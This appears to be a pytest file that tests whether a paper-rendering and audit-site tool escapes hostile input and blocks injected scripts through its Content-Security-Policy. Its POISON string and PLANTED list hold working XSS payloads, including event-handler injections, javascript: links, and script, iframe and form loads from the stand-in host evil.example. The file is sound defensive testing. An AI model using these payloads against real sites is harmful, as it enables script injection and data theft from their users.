"""Whatever a stranger writes, wherever, no page that we make runs it or asks a network for it.

Two layers, each alone: every text of a page is printed as text, though no gate has seen it (here the data
behind each page are poisoned as a whole), and a script that a hand puts into the finished page does not run.
"""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from render_sample import DATE, TEMPLATES, assemble_sample, render_page, write_sample
from small_paper import DRAWING, load, site_of
from tiny_evidence import VOCABULARY
from tracepaper.audit.reading.active_parts import active_parts
from tracepaper.audit.reading.document_text import read_document
from tracepaper.changes.page import page as changes_page
from tracepaper.changes.report import Project, compare
from tracepaper.changes.state import Exhibit, Label, State
from tracepaper.manuscript import front_matter
from tracepaper.render import docx, pdf

POISON = (
    "\"'><script>window.ran=1</script><img src=x onerror=window.ran=1><svg onload=window.ran=1>"
    "<style>*{display:none}</style><a href=javascript:window.ran=1>x</a><base href=https://evil.example/>"
    "</title></style></script><iframe src=https://evil.example/></iframe> ${window.ran=1} {{css}} "
    "<!-- data stands here --><!-- the policy stands here --> #read(1) \\input{x}"
)
PLANTED = (
    "<script>window.ran=1</script>",
    "<script type=module>window.ran=1</script>",
    "<script src=data:text/javascript,window.ran=1></script>",
    "<script src=https://evil.example/a.js></script>",
    "<img src=x onerror=window.ran=1>",
    "<img src=https://evil.example/a.png>",
    "<svg onload=window.ran=1></svg>",
    "<body onload=window.ran=1>",
    "<details open ontoggle=window.ran=1><summary>x</summary></details>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<object data=https://evil.example/a></object>",
    "<embed src=https://evil.example/a>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<style>main { background: url(https://evil.example/a.png) }</style>",
    "<p style='background: url(https://evil.example/b.png)'>x</p>",
    "<video src=https://evil.example/a.webm autoplay></video>",
    "<base href=https://evil.example/>",
)
CLICKED = "<a id=planted href=javascript:window.ran=1>x</a>"
SENT = "<form action=https://evil.example/><input id=planted type=submit></form>"
WHERE = """
    #facts #claims #exhibits #sources #checks #/assurance #fact/gdp-ratio #claim/larger #exhibit/tbl-gdp
    #exhibit/fig-gdp #source/bank/2026-07 #source/office/2025 #printed/en/tbl-gdp/1/2 #cell/tbl-gdp/1/now
    #code/workflow/analysis/sections/sample/facts.py/1 #raw/office/2025/table.csv/4 #fact/"]<img>
"""
TIES = ("observations", "unit", "code", "exhibits", "reads")
KEPT = {"languages", "kind", "state", "strength", "family", "language", "drawing", "how", "role"}


def poisoned(value: Any, key: str = "") -> Any:
    """A copy with the poison behind every text; names by which the page itself finds things stay."""
    if isinstance(value, dict):
        return {name: poisoned(inner, name) for name, inner in value.items()}
    if isinstance(value, list | tuple):
        return [poisoned(inner, key) for inner in value]
    return value + POISON if isinstance(value, str) and key not in KEPT else value


def poison_json(path: Path, change: Callable[[Any], Any] = poisoned) -> None:
    path.write_text(json.dumps(change(json.loads(path.read_text(encoding="utf-8")))), encoding="utf-8")


@pytest.fixture(scope="module")
def paper(tmp_path_factory) -> Path:
    """The paper's own page: fact, caption, cell, note, reference, author, keyword, title are poisoned."""
    folder = write_sample(tmp_path_factory.mktemp("hostile"))
    facts = {"trade-2024": {"text": {"zh": POISON, "en": POISON}}}
    (folder / "facts.json").write_text(json.dumps({"facts": facts}), encoding="utf-8")
    for file in folder.glob("exhibits/*/exhibit.json"):
        poison_json(file, lambda found: poisoned(found) | {"id": found["id"]})
    for name in ("title={Trade", "author={Balassa", "journal={The"):
        file = folder / "references.bib"
        text = file.read_text(encoding="utf-8")
        tex = re.sub(r"[\\{}#$&%_^~]", "", POISON)
        file.write_text(text.replace(name, name.replace("={", "={" + tex.replace(",", ""))), encoding="utf-8")
    section = folder / "en/02-limits.md"
    words = re.sub(r"([^\w\s])", r"\\\1", POISON)
    section.write_text(section.read_text(encoding="utf-8") + f"\n{words}\n", encoding="utf-8")
    metadata = folder / "metadata.yaml"
    text = metadata.read_text(encoding="utf-8").replace("[trade,", f"[{json.dumps(POISON)},")
    metadata.write_text(text.replace('"Trade Co', '"' + json.dumps(POISON)[1:-1] + "Co"), encoding="utf-8")
    author = {"name": POISON, "affiliation": POISON, "note": POISON}
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(front_matter, "_MARK", re.compile("(?!)"))  # its gate refuses the title and keywords
        tree = assemble_sample(folder, "en", byline=[author], funding=POISON, interests=POISON)
    render_page(tree, folder / "exhibits", folder / "paper.html")
    return folder / "paper.html"


@pytest.fixture(scope="module")
def site(small_paper, tmp_path_factory) -> Path:
    """The audit site: facts, claims, captions, report, sidecars, cells of raw files, trees are poisoned."""
    folder = shutil.copytree(small_paper, tmp_path_factory.mktemp("site") / "paper")
    for name in ("facts", "claims"):
        poison_json(folder / f"results/{name}.json", kept_names)
    for file in folder.glob("results/exhibits/*/exhibit.json"):
        poison_json(file, lambda found: poisoned(found) | {"id": found["id"]})
    for file in folder.glob("data/processed/manuscript/*.json"):
        poison_json(file, poisoned_words)
    for file in folder.glob("data/raw/*/*/table.csv"):
        lines = file.read_text(encoding="utf-8").splitlines()
        file.write_text("\n".join(f"{line},{POISON}" for line in lines) + "\n", encoding="utf-8")
    for file in folder.glob("data/raw/*/*/source.yml"):
        poison_sidecar(file)
    module = load(folder / "workflow/analysis/exhibits/tbl_gdp/exhibit.py", "exhibit")
    return site_of(folder, module)


def kept_names(found: Any) -> Any:
    """Facts or claims with poison in everything but what ties them to other files."""
    made = poisoned(found)
    for kind, entries in found.items():
        for name, entry in entries.items():
            made[kind][name] |= {key: entry[key] for key in TIES if key in entry}
    return made


def poisoned_words(node: Any) -> Any:
    """A tree with the poison behind every word."""
    if isinstance(node, list):
        return [poisoned_words(inner) for inner in node]
    if isinstance(node, dict):
        if node.get("t") in ("Str", "MetaString") and node["c"] not in ("zh-CN", "en-GB"):
            return {"t": node["t"], "c": node["c"] + POISON}
        return {key: poisoned_words(inner) for key, inner in node.items()}
    return node


def poison_sidecar(file: Path) -> None:
    found = yaml.safe_load(file.read_text(encoding="utf-8"))
    for key in ("publisher", "title", "citation", "licence", "units", "basis", "notes"):
        found[key] = poisoned(found[key])
    file.write_text(yaml.safe_dump(found | {"url": "javascript:window.ran=1"}), encoding="utf-8")


@pytest.fixture(scope="module")
def changes(tmp_path_factory) -> Path:
    """The page of `./run changes`: labels of states (a commit and its author), numbers, claims, exhibits,
    sources."""
    folder = tmp_path_factory.mktemp("changes")
    for language in ("zh", "en"):
        (folder / "manuscript" / language).mkdir(parents=True)
    project = Project(folder, folder, folder / "manuscript", ("zh", "en"), [], VOCABULARY, lambda *_: None)
    before, after = state(1.0, True, "a"), state(2.0, False, "b")
    found = compare(before, after, project)
    assert found["claims"]["became_false"] and found["numbers"]["changed"] and found["exhibits"]["changed"]
    for entry in found["exhibits"]["changed"]:
        entry["drawings"] = {"en": ["a.svg", "b.svg"]}
    for name in ("a.svg", "b.svg"):
        (folder / name).write_text(DRAWING, encoding="utf-8")
    made = poisoned(found)
    made["exhibits"]["changed"][0]["drawings"] = {"en": ["a.svg", "b.svg"]}
    (folder / "index.html").write_text(changes_page(made), encoding="utf-8")
    return folder / "index.html"


def state(value: float, holds: bool, drawn: str) -> State:
    both = {"zh": "t", "en": "t"}
    fact = {"value": value, "rounded": value, "unit": "USD", "step": 1.0, "period": "2023"}
    fact |= {"definition": both, "text": dict.fromkeys(both, f"{value:.0f}"), "observations": ["1-9"]}
    sentence = {"text": "Trade rose.", "file": "en/1.md", "line": 3}
    claim = {"holds": holds, "says": both, "margin": value, "numbers": {"a": value}, "labels": {"a": both}}
    claim |= {"sentence": dict.fromkeys(both, sentence), "kind": "change", "strength": "robust"}
    meta = {"kind": "figure", "title": both, "note": dict.fromkeys(both, drawn), "alt": both, "table": None}
    exhibit = Exhibit(meta, [["year", "value"], ["2023", str(value)]], {}, dict.fromkeys(both, drawn))
    source = {"edition": "1", "title": both, "files": {"a.csv": "0"}}
    return State(
        Label("published", "2026"),
        {"bank": source},
        {"gdp": fact},
        {"rose": claim | {"parts": [], "rivals": []}},
        {"fig-a": exhibit},
    )


def is_asked(address: str) -> bool:
    """Whether a request leaves the page's own folder."""
    return not address.startswith(("file:", "data:", "blob:"))


@pytest.fixture
def opened(browser):
    """Opens a page; tells what it asked of a network and what it said."""
    contexts = []

    def open_page(path: Path, at: str = ""):
        context = browser.new_context(locale="en-GB", reduced_motion="reduce")
        contexts.append(context)
        page, told = context.new_page(), []

        def asked(route):  # what reaches it, the policy has let pass
            told.append(route.request.url)
            route.abort()

        page.on("console", lambda message: told.append(message.text))
        page.on("pageerror", lambda error: told.append(str(error)))
        page.on("dialog", lambda dialog: told.append(dialog.message))
        context.on("page", lambda other: told.append(f"opened {other.url}"))
        page.route(is_asked, asked)
        page.goto(path.as_uri() + at)
        return page, told

    yield open_page
    for context in contexts:
        context.close()


@pytest.mark.parametrize("name", ["paper", "site", "changes"])
def test_poison_is_printed(opened, request, name):
    page, told = opened(request.getfixturevalue(name))
    if name == "site":
        page.wait_for_selector("html[data-ready]")
    assert page.evaluate("window.ran") is None and told == []
    assert POISON[2:72] in page.locator("main").text_content()
    assert page.locator("main iframe, main [onerror], main [onload], main [href^=javascript]").count() == 0


@pytest.mark.parametrize("at", WHERE.split())
def test_poison_is_printed_wherever_the_site_leads(opened, site, at):
    page, told = opened(site, at)
    page.wait_for_selector("html[data-ready]")
    for _ in range(page.locator("details:not([open]) > summary:visible").count()):
        page.locator("details:not([open]) > summary:visible").first.click()
    assert page.evaluate("window.ran") is None and told == []


@pytest.mark.parametrize("name", ["paper", "site", "changes"])
@pytest.mark.parametrize("planted", [*PLANTED, CLICKED, SENT])
def test_a_script_planted_in_the_finished_page_does_not_run(opened, request, tmp_path, name, planted):
    """Where there was no gate, or somebody changed the file: the page's own policy."""
    text = request.getfixturevalue(name).read_text(encoding="utf-8")
    path = tmp_path / "page.html"
    path.write_text(re.sub(r"(<main\b[^>]*>)", lambda m: m[0] + planted, text, count=1), encoding="utf-8")
    page, told = opened(path)
    if "id=planted" in planted:
        page.locator("#planted").first.click(no_wait_after=True)
    page.wait_for_load_state("networkidle")
    assert page.evaluate("window.ran") is None
    assert [line for line in told if line.startswith(("http", "opened"))] == []
    assert any("Content Security Policy" in line or "Refused" in line for line in told), told


def test_without_the_policy_the_same_scripts_run(opened, paper, tmp_path):
    """What the tests above plant would do harm: a test that cannot fail is none."""
    text = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", paper.read_text(encoding="utf-8"))
    for number, planted in enumerate(PLANTED[:9]):
        path = tmp_path / f"{number}.html"
        if "https" not in planted:
            path.write_text(text.replace("<main>", f"<main>{planted}", 1), encoding="utf-8")
            page, _ = opened(path)
            page.wait_for_load_state("networkidle")
            assert page.evaluate("window.ran") == 1, planted


@pytest.mark.parametrize("kind", ["pdf", "docx"])
def test_poison_is_printed_in_the_documents_too(paper, kind):
    """No field, action or code of it reaches Word or Typst; its words are there."""
    made = paper.with_name(f"paper.{kind}")
    if kind == "pdf":
        pdf.render(paper.with_name("en.json"), paper.parent / "exhibits", TEMPLATES, made, DATE)
    else:
        docx.render(paper.with_name("en.json"), paper.parent / "exhibits", made, DATE)
    assert list(active_parts(made)) == []
    text = re.sub(r"\s", "", read_document(made).text)
    assert "window.ran=1" in text and "#read(1)" in text
